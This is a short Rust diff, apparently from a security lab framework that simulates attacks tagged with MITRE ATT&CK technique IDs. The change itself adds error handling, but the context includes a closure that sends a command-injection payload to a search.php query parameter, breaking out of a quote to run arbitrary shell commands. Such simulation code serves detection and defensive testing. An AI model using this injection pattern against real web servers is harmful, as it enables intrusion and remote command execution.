@@ -23,7 +23,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     database::look_after(lab, &db)?;
     lab.wait(4..8);
 
-    let attack = lab.attack("a database leaves by what is there");
+    let attack = lab.attack("a database leaves by what is there")?;
     let call =
         |commands: &str| get(&attacker, host.address, 80, &format!("/search.php?q=lamp\" /dev/null; {commands} #"));
     let step = attack.step("a search runs commands", &["T1190", "T1059.004", "T1033"]);
